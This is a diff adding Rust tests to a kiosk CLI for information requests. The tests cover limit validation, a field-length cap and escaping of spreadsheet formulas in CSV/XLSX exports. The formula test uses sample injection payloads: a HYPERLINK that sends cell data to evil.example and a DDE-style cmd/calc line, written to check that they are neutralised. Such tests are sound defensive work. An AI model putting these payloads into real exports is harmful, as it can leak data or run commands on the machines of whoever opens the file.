@@ -224,3 +224,126 @@ fn pinyin_in_name_mode_prints_zhang_san_first_without_a_configuration() {
     let out = kiosk(&missing, &["pinyin", "--all", "xiu"]);
     assert!(text(&out.stdout).lines().count() > 9);
 }
+
+#[test]
+fn search_refuses_a_limit_outside_1_to_200_with_a_message_instead_of_panicking() {
+    let tmp = tempfile::tempdir().unwrap();
+    let config = common::demo_config(&tmp.path().join("index"));
+    assert!(kiosk(&config, &["index", "build"]).status.success());
+    for limit in ["18446744073709551615", "0", "201", "-1"] {
+        let out = kiosk(&config, &["search", "养老", "--limit", limit]);
+        let err = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "--limit {limit}: {err}");
+        assert!(!err.contains("panicked"), "--limit {limit}: {err}");
+        assert!(err.contains("--limit") && err.contains("1..=200"), "{err}");
+    }
+    let out = kiosk(&config, &["search", "养老", "--limit", "200", "--json"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(!text(&out.stdout).is_empty());
+}
+
+/// The citizen fixture form with some fields replaced, written to `dir/name`.
+fn form_with(dir: &std::path::Path, name: &str, fields: &[(&str, String)]) -> std::path::PathBuf {
+    let fixture = common::repo().join("tests/fixtures/request-citizen.json");
+    let mut form: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(fixture).unwrap()).unwrap();
+    for (k, v) in fields {
+        form[*k] = serde_json::Value::String(v.clone());
+    }
+    let path = dir.join(name);
+    std::fs::write(&path, form.to_string()).unwrap();
+    path
+}
+
+#[test]
+fn a_json_form_with_an_overlong_description_is_refused_naming_the_field_and_its_limit() {
+    let tmp = tempfile::tempdir().unwrap();
+    let config = common::requests_config(tmp.path(), "none");
+    let long = form_with(
+        tmp.path(),
+        "long.json",
+        &[("description", "请公开".repeat(800_000))],
+    );
+    let out = kiosk(
+        &config,
+        &["requests", "submit", "--json", long.to_str().unwrap()],
+    );
+    assert!(!out.status.success());
+    assert!(out.stdout.is_empty(), "nothing filed");
+    let err = text(&out.stderr);
+    assert!(
+        err.contains("所需信息的内容描述：") && err.contains("不能超过2000字"),
+        "{err}"
+    );
+    // At the limit it is filed.
+    let at_limit = form_with(
+        tmp.path(),
+        "at-limit.json",
+        &[("description", "公".repeat(2000))],
+    );
+    let out = kiosk(
+        &config,
+        &["requests", "submit", "--json", at_limit.to_str().unwrap()],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+}
+
+#[test]
+fn exported_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped_in_csv_and_xlsx() {
+    use calamine::{open_workbook, Reader, Xlsx};
+    let tmp = tempfile::tempdir().unwrap();
+    let config = common::requests_config(tmp.path(), "none");
+    let attack = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")";
+    let form = form_with(
+        tmp.path(),
+        "attack.json",
+        &[
+            ("name", "@SUM(1+1)*cmd|' /C calc'!A0".into()),
+            ("address", "+青禾县城关镇人民路1号".into()),
+            ("description", attack.into()),
+        ],
+    );
+    let out = kiosk(
+        &config,
+        &["requests", "submit", "--json", form.to_str().unwrap()],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+
+    let csv = tmp.path().join("register.csv");
+    let xlsx = tmp.path().join("register.xlsx");
+    for (format, file) in [("csv", &csv), ("xlsx", &xlsx)] {
+        let out = kiosk(
+            &config,
+            &[
+                "requests",
+                "export",
+                "--format",
+                format,
+                "--out",
+                file.to_str().unwrap(),
+            ],
+        );
+        assert!(out.status.success(), "{}", text(&out.stderr));
+    }
+    let body = std::fs::read_to_string(&csv).unwrap();
+    let mut rows = csv::Reader::from_reader(body.trim_start_matches('\u{FEFF}').as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!(&row[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(&row[6], format!("'{attack}"));
+
+    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
+    let sheet = book.worksheet_range("申请登记").unwrap();
+    let cell = |c: u32| sheet.get_value((1, c)).map(|v| v.to_string()).unwrap();
+    assert_eq!(cell(3), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell(6), format!("'{attack}"));
+    // No cell of the export starts with a formula character.
+    for r in sheet.rows() {
+        for v in r {
+            let s = v.to_string();
+            assert!(
+                !s.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "unescaped cell {s:?}"
+            );
+        }
+    }
+}
